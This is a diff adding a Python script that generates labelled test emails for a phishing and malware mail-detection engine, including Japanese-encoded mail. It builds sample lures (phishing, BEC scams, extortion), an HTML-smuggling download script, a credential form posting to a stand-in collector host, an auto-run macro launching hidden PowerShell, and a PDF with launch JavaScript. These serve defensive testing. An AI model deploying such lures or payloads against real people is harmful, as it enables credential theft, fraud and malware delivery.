@@ -1,0 +1,444 @@
+#!/usr/bin/env python3
+"""tests/detect/mkdata.py: write the team's test mail to tests/detect/data/.
+
+Every message is written here, by hand, for one behaviour of the engine;
+binary parts (zip, OOXML, PDF, QR code PNG) are built by this script so
+that nothing opaque is committed.  Japanese mail is encoded the way mail
+programs send it: ISO-2022-JP (with NEC special characters, as Windows
+sends them), Shift_JIS in base64, EUC-JP in 8 bits, UTF-8 in quoted-
+printable.  Run it again after a change (needs python3 and qrencode); the
+output is deterministic.  expect.txt pins the verdict and rules of each.
+"""
+import base64
+import io
+import os
+import quopri
+import subprocess
+import zipfile
+
+OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "data")
+DATE = "Mon, 02 Nov 2026 09:30:00 +0900"
+EXPECT = []
+
+
+def write(name, data, verdict, *rules):
+    if isinstance(data, str):
+        data = data.encode("utf-8")
+    data = data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
+    with open(os.path.join(OUT, name), "wb") as f:
+        f.write(data)
+    EXPECT.append("%s %s %s" % (name, verdict, " ".join(rules)))
+
+
+def b64(data, width=76):
+    s = base64.b64encode(data).decode()
+    return "\n".join(s[i:i + width] for i in range(0, len(s), width))
+
+
+def zipbytes(files, comp=zipfile.ZIP_DEFLATED):
+    bio = io.BytesIO()
+    with zipfile.ZipFile(bio, "w", comp) as z:
+        for name, data in files:
+            zi = zipfile.ZipInfo(name, date_time=(2026, 11, 2, 9, 30, 0))
+            zi.compress_type = comp
+            z.writestr(zi, data)
+    return bio.getvalue()
+
+
+def sjis_to_jis(b):
+    """CP932 bytes to ISO-2022-JP (NEC rows kept, as Windows does)."""
+    out = bytearray()
+    mode = "ascii"
+    i = 0
+    while i < len(b):
+        c = b[i]
+        if c < 0x80:
+            if mode != "ascii":
+                out += b"\x1b(B"
+                mode = "ascii"
+            out.append(c)
+            i += 1
+            continue
+        s1, s2 = c, b[i + 1]
+        if s1 >= 0xe0:
+            s1 -= 0x40
+        j1 = (s1 - 0x81) * 2 + 0x21
+        if s2 >= 0x9f:
+            j1 += 1
+            j2 = s2 - 0x9f + 0x21
+        else:
+            j2 = s2 - 0x40 + 0x21 - (1 if s2 >= 0x80 else 0)
+        if mode != "jis":
+            out += b"\x1b$B"
+            mode = "jis"
+        out += bytes([j1, j2])
+        i += 2
+    if mode != "ascii":
+        out += b"\x1b(B"
+    return bytes(out)
+
+
+def jis(text):
+    return b"\n".join(sjis_to_jis(l.encode("cp932"))
+                      for l in text.split("\n"))
+
+
+def ew(unused, charset, raw):
+    """An RFC 2047 encoded word of raw bytes in charset."""
+    return "=?%s?B?%s?=" % (charset, base64.b64encode(raw).decode())
+
+
+def headers(frm, subject, extra=""):
+    mid = sum(ord(c) * (i + 1) for i, c in enumerate(subject)) % 10**9
+    return ("From: %s\nTo: taro.yamada@contoso.com\nSubject: %s\n"
+            "Date: %s\nMessage-ID: <%d@mail.test>\nMIME-Version: 1.0\n%s"
+            % (frm, subject, DATE, mid, extra))
+
+
+def main():
+    os.makedirs(OUT, exist_ok=True)
+
+    write("en-01-clean-plain.eml", headers(
+        "Alice Brown <alice@fabrikam.com>", "Minutes of Tuesday's meeting") +
+        "Content-Type: text/plain; charset=us-ascii\n\n"
+        "Hi Taro,\n\nThe minutes are on our wiki as usual:\n"
+        "https://wiki.fabrikam.com/meetings/2026-11-01\n\n"
+        "Next meeting is on Thursday at 10:00.\n\nAlice\n", "clean")
+
+    write("en-02-phish-microsoft.eml", headers(
+        '"Microsoft account team" <no-reply@account-security-mail.top>',
+        "Unusual sign-in activity") +
+        "Content-Type: text/html; charset=utf-8\n\n"
+        "<html><body><p>We detected unusual sign-in activity on your "
+        "Microsoft account.</p><p>Verify your account within 24 hours or "
+        "it will be suspended.</p>"
+        '<p><a href="https://micros0ft-login.com/verify?id=8812">'
+        "https://account.microsoft.com/security</a></p>"
+        "<p>The Microsoft account team</p></body></html>\n",
+        "threat", "sender.display_brand", "url.lookalike_brand",
+        "url.text_mismatch_brand", "content.credential_urgent")
+
+    write("en-03-bec-giftcard.eml", headers(
+        '"John Smith CEO" <john.smith.ceo.office@gmail.com>',
+        "Quick favor") + "Content-Type: text/plain; charset=utf-8\n\n"
+        "Hi Taro,\n\nAre you available? I'm in a meeting and can't talk.\n"
+        "I need you to purchase some gift cards for a client today, "
+        "Apple gift cards, 5 x $200.\nScratch off the back and send me "
+        "the codes by email.\n\nJohn Smith\nCEO\n",
+        "threat", "content.gift_card", "sender.freemail_executive",
+        "sender.display_person")
+
+    write("en-04-bec-bankchange.eml", headers(
+        "Accounts Receivable <ar@fabrikam-billing.com>",
+        "Updated banking information",
+        "Reply-To: fabrikam.ar.dept@outlook.com\n") +
+        "Content-Type: text/plain; charset=utf-8\n\n"
+        "Dear customer,\n\nPlease note that our bank details have changed. "
+        "Kindly remit payment to our new bank account for invoice "
+        "INV-20931 below:\n\nIBAN: GB33 BUKB 2020 1555 5555 55\n"
+        "SWIFT code: BUKBGB22\n\nThis is urgent, the old account is "
+        "currently under audit.\n\nRegards,\nAccounts Receivable\n",
+        "threat", "content.payment_change", "sender.replyto_freemail",
+        "sender.lookalike_correspondent")
+
+    write("en-05-extortion.eml", headers(
+        "<hacker@anon-mailer.net>", "Your account was hacked") +
+        "Content-Type: text/plain; charset=utf-8\n\n"
+        "I have access to your device. I infected your computer with "
+        "spyware and recorded a video of you through your webcam while "
+        "you were visiting adult websites.\nTransfer $1500 in Bitcoin to "
+        "this bitcoin address: bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh\n"
+        "You have 48 hours. If I do not receive the payment, I will send "
+        "the video to all your contacts. If you pay, I will delete the "
+        "video.\n", "threat", "content.extortion")
+
+    pe = (b"MZ" + b"\x90\x00" * 29 + b"\x00\x00" + b"\x40\x00\x00\x00" +
+          b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 200)
+    z = zipbytes([("Invoice_2024.pdf.exe", pe)])
+    write("en-06-zip-exe.eml", headers(
+        "Billing <billing@invoices-portal.xyz>", "Invoice 2024-11") +
+        'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
+        "Content-Type: text/plain; charset=utf-8\n\nPlease find the "
+        "invoice attached.\n\n--b1\nContent-Type: application/zip; "
+        'name="Invoice_2024.zip"\nContent-Disposition: attachment; '
+        'filename="Invoice_2024.zip"\nContent-Transfer-Encoding: base64\n\n'
+        + b64(z) + "\n--b1--\n", "threat", "attach.executable",
+        "attach.double_extension")
+
+    smuggle = (
+        "<html><body><script>\nvar d = atob('UEsDBBQAAAAIAAAAIQ" +
+        "A" * 64 + "');\nvar a = new Uint8Array(d.length);\n"
+        "for (var i = 0; i < d.length; i++) a[i] = d.charCodeAt(i);\n"
+        "var b = new Blob([a], {type: 'application/zip'});\n"
+        "var l = document.createElement('a');\n"
+        "l.href = URL.createObjectURL(b);\nl.download = 'document.zip';\n"
+        "document.body.appendChild(l); l.click();\n</script>"
+        "<p>Loading your document...</p></body></html>\n")
+    write("en-07-html-smuggling.eml", headers(
+        "Scanner <scanner@docs-delivery.click>", "Scanned document") +
+        'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
+        "Content-Type: text/plain; charset=utf-8\n\nYour scanned document "
+        "is attached.\n\n--b1\nContent-Type: text/html; "
+        'name="Scan_0931.html"\nContent-Disposition: attachment; '
+        'filename="Scan_0931.html"\nContent-Transfer-Encoding: base64\n\n'
+        + b64(smuggle.encode()) + "\n--b1--\n", "threat",
+        "attach.html_smuggling", "yara.html_smuggling_blob")
+
+    cred = ("<html><head><title>Sign in to your account</title></head>"
+            "<body><h2>Microsoft 365</h2><p>Your session expired. Sign in "
+            "to view the shared file.</p>"
+            '<form method="post" action="https://collect.evil-forms.top/next.php">'
+            '<input type="email" name="login" value="taro.yamada@contoso.com">'
+            '<input type="password" name="passwd">'
+            '<button type="submit">Sign in</button></form></body></html>\n')
+    write("en-08-html-credform.eml", headers(
+        "SharePoint <share@files-share-notify.top>",
+        "Taro Yamada shared \"Q4 salaries.xlsx\" with you") +
+        'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
+        "Content-Type: text/plain; charset=utf-8\n\nOpen the attached "
+        "file to view the document.\n\n--b1\nContent-Type: text/html; "
+        'name="Q4_salaries.htm"\nContent-Disposition: attachment; '
+        'filename="Q4_salaries.htm"\nContent-Transfer-Encoding: base64\n\n'
+        + b64(cred.encode()) + "\n--b1--\n", "threat",
+        "attach.html_credential_form", "sender.display_brand")
+
+    docm = zipbytes([
+        ("[Content_Types].xml",
+         '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats'
+         '.org/package/2006/content-types"><Override PartName="/word/'
+         'document.xml" ContentType="application/vnd.ms-word.document.'
+         'macroEnabled.main+xml"/></Types>'),
+        ("word/document.xml", "<w:document><w:body><w:p><w:r><w:t>Enable "
+         "content to see this document.</w:t></w:r></w:p></w:body>"
+         "</w:document>"),
+        ("word/vbaProject.bin",
+         b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 +
+         b"Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n"
+         b"  Set s = CreateObject(\"WScript.Shell\")\r\n"
+         b"  s.Run \"powershell -nop -w hidden -e SQBFAFgA\"\r\nEnd Sub\r\n"),
+    ])
+    write("en-09-docm-macro.eml", headers(
+        "HR <hr@payroll-update.info>", "Salary review 2027") +
+        'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
+        "Content-Type: text/plain; charset=utf-8\n\nPlease review the "
+        "attached document and enable editing.\n\n--b1\n"
+        "Content-Type: application/vnd.ms-word.document.macroEnabled.12; "
+        'name="Salary_review.docm"\nContent-Disposition: attachment; '
+        'filename="Salary_review.docm"\nContent-Transfer-Encoding: base64\n\n'
+        + b64(docm) + "\n--b1--\n", "threat", "attach.macro",
+        "yara.maldoc_autoexec_shell")
+
+    qr = subprocess.run(
+        ["qrencode", "-o", "-", "-t", "PNG", "-s", "6", "-m", "4",
+         "https://mfa-reset.mailbox-verify.top/v?u=taro.yamada"],
+        stdout=subprocess.PIPE, check=True).stdout
+    write("en-10-qr.eml", headers(
+        "IT Service Desk <it-desk@mfa-notice.top>",
+        "Action required: re-enable two-factor authentication") +
+        'Content-Type: multipart/related; boundary="b1"\n\n--b1\n'
+        "Content-Type: text/html; charset=utf-8\n\n<html><body>"
+        "<p>Your multi-factor authentication expires today. Scan the QR "
+        "code below with your phone to keep access to your mailbox.</p>"
+        '<img src="cid:qr1@test"></body></html>\n--b1\n'
+        'Content-Type: image/png; name="qr.png"\nContent-ID: <qr1@test>\n'
+        'Content-Disposition: inline; filename="qr.png"\n'
+        "Content-Transfer-Encoding: base64\n\n" + b64(qr) + "\n--b1--\n",
+        "potential", "attach.qr_code", "url.risky_tld")
+
+    pdf = (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R "
+           b"/OpenAction 4 0 R >> endobj\n2 0 obj << /Type /Pages /Kids "
+           b"[3 0 R] /Count 1 >> endobj\n3 0 obj << /Type /Page /Parent "
+           b"2 0 R /Annots [5 0 R] >> endobj\n4 0 obj << /S /JavaScript "
+           b"/JS (app.launchURL\\(\"https://pdf-docs.view-online.top/d\"\\);) "
+           b">> endobj\n5 0 obj << /Type /Annot /Subtype /Link /A << /S "
+           b"/URI /URI (https://pdf-docs.view-online.top/d) >> >> endobj\n"
+           b"trailer << /Root 1 0 R >>\n%%EOF\n")
+    write("en-11-pdf-js.eml", headers(
+        "Docs <docs@view-online.top>", "Document for signature") +
+        'Content-Type: multipart/mixed; boundary="b1"\n\n--b1\n'
+        "Content-Type: text/plain; charset=utf-8\n\nPlease sign the "
+        "attached document.\n\n--b1\nContent-Type: application/pdf; "
+        'name="contract.pdf"\nContent-Disposition: attachment; '
+        'filename="contract.pdf"\nContent-Transfer-Encoding: base64\n\n'
+        + b64(pdf) + "\n--b1--\n", "threat", "attach.pdf_javascript",
+        "attach.pdf_link_lure")
+
+    write("en-12-spoof-own.eml",
+          "Received: from mail.spoofer.example (203.0.113.9) by "
+          "TYCPR01MB0000.jpnprd01.prod.outlook.com\n"
+          "Authentication-Results: spf=fail (sender IP is 203.0.113.9) "
+          "smtp.mailfrom=contoso.com; dkim=none (message not signed) "
+          "header.d=none;dmarc=fail action=oreject "
+          "header.from=contoso.com;compauth=fail reason=000\n"
+          "Received-SPF: Fail (protection.outlook.com: domain of contoso.com "
+          "does not designate 203.0.113.9 as permitted sender)\n" +
+          headers("Payroll <payroll@contoso.com>", "Payslip for November") +
+          "Content-Type: text/plain; charset=utf-8\n\nYour payslip is ready."
+          "\n", "threat", "sender.spoof_own_domain", "auth.dmarc_fail",
+          "auth.compauth_fail")
+
+    write("en-13-lookalike-sender.eml", headers(
+        "IT Support <it-support@c0ntoso.com>", "Password expiry notice") +
+        "Content-Type: text/html; charset=utf-8\n\n<p>Dear "
+        "taro.yamada@contoso.com,</p><p>Your password expires today. "
+        'Click <a href="https://c0ntoso.com/keep">here</a> to keep your '
+        "password.</p>\n", "threat", "sender.lookalike_own",
+        "url.lookalike_own", "content.address_greeting")
+
+    write("en-14-idn-homoglyph.eml", headers(
+        "PayPal <service@paypal-notice.info>", "Your payment was declined") +
+        "Content-Type: text/html; charset=utf-8\n\n<p>Your payment was "
+        "declined. Update your payment method:</p><p><a href=\"https://"
+        "p\u0430ypal.com/signin\">paypal.com</a></p>\n", "threat",
+        "url.lookalike_brand", "sender.display_brand")
+
+    write("en-15-obfuscated.eml", headers(
+        "Wallet Support <support@wallet-help.info>",
+        "[Wall\u0435t Susp\u0435nded] You may los\u0435 all your ass\u0435ts") +
+        "Content-Type: text/plain; charset=utf-8\n\nYour wall\u0435t has "
+        "been susp\u0435nded. Validate your wallet with your 12-word "
+        "recovery phrase: https://wallet-validate.app-sync.top/\n",
+        "threat", "content.obfuscated_text", "content.wallet_phrase")
+
+    write("en-17-clean-newsletter.eml", headers(
+        "Northwind Books <news@northwindbooks.com>", "November picks") +
+        'Content-Type: multipart/alternative; boundary="b1"\n\n--b1\n'
+        "Content-Type: text/plain; charset=utf-8\n\nOur November picks: "
+        "https://www.northwindbooks.com/picks/2026-11\n\n--b1\n"
+        "Content-Type: text/html; charset=utf-8\n\n<html><body>"
+        '<div style="display:none">Five novels for long evenings</div>'
+        "<h1>November picks</h1><p>Five novels for long evenings, chosen "
+        "by our booksellers.</p>"
+        '<a href="https://www.northwindbooks.com/picks/2026-11">'
+        '<img src="https://img.northwindbooks.com/nov.jpg" alt="picks">'
+        "</a><p>You receive this because you subscribed at "
+        "northwindbooks.com. "
+        '<a href="https://www.northwindbooks.com/unsubscribe">Unsubscribe'
+        "</a></p></body></html>\n--b1--\n", "clean")
+
+    write("en-19-advance-fee.eml", headers(
+        '"Barrister James Cole" <jcole.chambers@yahoo.com>',
+        "Inheritance of your late relative") +
+        "Content-Type: text/plain; charset=utf-8\n\nDear friend,\n\nI am "
+        "Barrister James Cole, personal attorney to the late client who "
+        "died without next of kin. He left the sum of US$10.5 million "
+        "dollars in a dormant account. I seek your consent to present you "
+        "as the beneficiary so that the funds can be transferred to you. "
+        "Kindly reply with your full name and your phone number.\n\nGod "
+        "bless,\nJames Cole\n", "potential", "content.advance_fee")
+
+    # --- Japanese ---
+    subj = "【重要】Amazonアカウントの確認のお願い"
+    body = ("Amazonをご利用いただきありがとうございます。\n"
+            "お客様のアカウントで不審なログインが検出されました。\n"
+            "24時間以内にアカウントを確認しない場合、ご利用を一時停止させて"
+            "いただきます。\n① 下記のリンクからログインしてください\n"
+            "② お支払い方法を更新してください\n"
+            "https://amazon-co-jp.account-check.top/signin\n"
+            "Amazon カスタマーサービス\n")
+    write("ja-01-phish-amazon-iso2022jp.eml",
+          ("From: %s <info@amazon-jp-support.top>\n" %
+           ew(None, "ISO-2022-JP", jis("Amazon.co.jp"))).encode() +
+          ("To: taro.yamada@contoso.com\nSubject: %s\nDate: %s\n"
+           "Message-ID: <ja01@mail.test>\nMIME-Version: 1.0\n"
+           "Content-Type: text/plain; charset=ISO-2022-JP\n"
+           "Content-Transfer-Encoding: 7bit\n\n" %
+           (ew(None, "ISO-2022-JP", jis(subj)), DATE)).encode() +
+          jis(body) + b"\n", "threat", "sender.display_brand",
+          "content.credential_urgent", "content.brand_subject")
+
+    subj = "至急のお願い"
+    body = ("山田さん\n\nお疲れ様です。今対応できますか。\n"
+            "取引先への支払いの件で、振込先の変更がありました。\n"
+            "本日中に下記の新しい口座へ送金をお願いします。\n"
+            "この件は内密にお願いします。会議中のためメールで連絡ください。\n\n"
+            "代表取締役社長 鈴木一郎\n")
+    write("ja-02-bec-sjis.eml",
+          ("From: %s <ichiro.suzuki.office@gmail.com>\n" %
+           ew(None, "Shift_JIS", "代表取締役社長 鈴木一郎".encode("cp932"))) +
+          ("To: taro.yamada@contoso.com\nSubject: %s\nDate: %s\n"
+           "Message-ID: <ja02@mail.test>\nMIME-Version: 1.0\n"
+           "Content-Type: text/plain; charset=Shift_JIS\n"
+           "Content-Transfer-Encoding: base64\n\n%s\n" %
+           (ew(None, "Shift_JIS", subj.encode("cp932")), DATE,
+            b64(body.encode("cp932")))), "threat",
+          "content.payment_change", "sender.freemail_executive",
+          "content.wire_urgent")
+
+    subj = "定例会議の議事録"
+    body = ("山田様\n\n先日の定例会議の議事録を共有いたします。\n"
+            "次回は11月10日（火）10時から第2会議室で行います。\n"
+            "ご確認のほどよろしくお願いいたします。\n\n総務部 佐藤\n")
+    write("ja-03-clean-eucjp.eml",
+          ("From: =?EUC-JP?B?%s?= <sato@fabrikam.com>\nTo: "
+           "taro.yamada@contoso.com\nSubject: =?EUC-JP?B?%s?=\nDate: %s\n"
+           "Message-ID: <ja03@mail.test>\nMIME-Version: 1.0\n"
+           "Content-Type: text/plain; charset=EUC-JP\n"
+           "Content-Transfer-Encoding: 8bit\n\n" %
+           (base64.b64encode("佐藤花子".encode("euc_jp")).decode(),
+            base64.b64encode(subj.encode("euc_jp")).decode(),
+            DATE)).encode() + body.encode("euc_jp"), "clean")
+
+    body = ("山田様\n\n先ほどお送りした「見積書.zip」のパスワードを"
+            "お知らせします。\n\nパスワード：Xk7pQ2mZ\n\n"
+            "よろしくお願いいたします。\n")
+    write("ja-04-ppap-password-utf8.eml",
+          "From: =?UTF-8?B?%s?= <sato@fabrikam.com>\nTo: "
+          "taro.yamada@contoso.com\nSubject: =?UTF-8?B?%s?=\nDate: %s\n"
+          "Message-ID: <ja04@mail.test>\nMIME-Version: 1.0\n"
+          "Content-Type: text/plain; charset=UTF-8\n"
+          "Content-Transfer-Encoding: quoted-printable\n\n%s\n" %
+          (base64.b64encode("佐藤花子".encode()).decode(),
+           base64.b64encode("パスワードのお知らせ".encode()).decode(), DATE,
+           quopri.encodestring(body.encode()).decode()), "clean")
+
+    html = ("<html><body><h1>11月のおすすめ</h1><p>今月は秋の新刊を"
+            "ご紹介します。</p><p><a href=\"https://www.northwindbooks.co.jp/"
+            "picks\">おすすめを見る</a></p><p>配信停止は<a href=\"https://"
+            "www.northwindbooks.co.jp/unsubscribe\">こちら</a></p>"
+            "</body></html>\n")
+    write("ja-05-clean-utf8-newsletter.eml",
+          "From: =?UTF-8?B?%s?= <news@northwindbooks.co.jp>\nTo: "
+          "taro.yamada@contoso.com\nSubject: =?UTF-8?B?%s?=\nDate: %s\n"
+          "Message-ID: <ja05@mail.test>\nMIME-Version: 1.0\n"
+          "Content-Type: text/html; charset=UTF-8\n"
+          "Content-Transfer-Encoding: quoted-printable\n\n%s\n" %
+          (base64.b64encode("ノースウインド書店".encode()).decode(),
+           base64.b64encode("11月のおすすめ".encode()).decode(), DATE,
+           quopri.encodestring(html.encode()).decode()), "clean")
+
+    body = ("佐川急便より、お荷物のお届けにあがりましたが不在の為"
+            "持ち帰りました。\n再配達のご依頼は下記よりお願いします。\n"
+            "保管期限を過ぎますと返送されます。\n"
+            "http://sagawa-exp.delivery-check.top/redelivery\n")
+    write("ja-06-delivery-sjis-nocharset.eml",
+          ("From: =?Shift_JIS?B?%s?= <info@sagawa-notice.top>\nTo: "
+           "taro.yamada@contoso.com\nSubject: =?Shift_JIS?B?%s?=\n"
+           "Date: %s\nMessage-ID: <ja06@mail.test>\nMIME-Version: 1.0\n"
+           "Content-Type: text/plain\nContent-Transfer-Encoding: 8bit\n\n" %
+           (base64.b64encode("佐川急便".encode("cp932")).decode(),
+            base64.b64encode("お荷物のお届けについて".encode("cp932")).decode(),
+            DATE)).encode() + body.encode("cp932"), "threat",
+          "content.delivery_lure", "sender.display_brand",
+          "url.brand_in_host")
+
+    body = ("関係者各位\n\n来週の打ち合わせの資料を添付します。\n"
+            "よろしくお願いします。\n")
+    write("ja-07-wrong-charset.eml",
+          ("From: sato@fabrikam.com\nTo: taro.yamada@contoso.com\n"
+           "Subject: =?ISO-2022-JP?B?%s?=\nDate: %s\n"
+           "Message-ID: <ja07@mail.test>\nMIME-Version: 1.0\n"
+           "Content-Type: text/plain; charset=us-ascii\n"
+           "Content-Transfer-Encoding: 8bit\n\n" %
+           (base64.b64encode(jis("打ち合わせ資料")).decode(), DATE)
+           ).encode() + body.encode("euc_jp"), "clean")
+
+    with open(os.path.join(OUT, "expect.txt"), "w") as f:
+        f.write("# file verdict rules...: written by tests/detect/mkdata.py"
+                "\n# (engine: own domain contoso.com, correspondent "
+                "fabrikam.com, person \"John Smith\")\n")
+        f.write("\n".join(EXPECT) + "\n")
+
+
+if __name__ == "__main__":
+    main()
